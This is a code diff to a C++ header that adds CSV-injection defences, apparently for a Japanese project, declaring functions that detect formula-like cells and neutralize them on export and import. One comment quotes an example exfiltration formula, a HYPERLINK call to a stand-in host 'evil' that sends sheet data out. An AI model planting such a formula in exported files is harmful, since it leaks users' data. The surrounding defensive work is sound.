@@ -8,6 +8,7 @@
 #include <vector>
 
 #include "core/diagnostic.h"
+#include "core/result.h"
 
 namespace mamori {
 
@@ -24,5 +25,24 @@ std::vector<CsvRecord> parse_csv(std::string_view text, std::vector<Diagnostic>&
 
 // One record, quoting the fields that need it, ended by CRLF (what Excel writes).
 std::string csv_record(const std::vector<std::string>& fields);
+
+// Spreadsheet safety (OWASP "CSV Injection"): every CSV mamori writes for a person to open
+// in Excel goes through neutralize_cell.
+
+// True when a cell starts with '=', '+', '-', '@', a tab or a carriage return: Excel and
+// LibreOffice take such a cell as a formula (=HYPERLINK("http://evil/?"&A1, …) sends the
+// sheet away). Full-width ＝＋－＠ are text to them and are left alone.
+bool starts_like_formula(std::string_view cell);
+
+// For export: "'" before a value that starts like a formula, so that spreadsheets show it
+// as text; also before a value that already starts with "'" followed by such a character
+// or another "'", so that unneutralize_cell gives every value back exactly.
+std::string neutralize_cell(std::string_view value);
+
+// For import: the trimmed cell with one neutralising "'" removed, or an Error (why the cell
+// is refused, and what to do) when it starts like a formula without one. Phone numbers
+// never start with '+' or '-' here (normalize_phone accepts only Japanese domestic
+// numbers), so nothing legitimate is lost.
+Result<std::string> unneutralize_cell(std::string_view cell);
 
 }  // namespace mamori
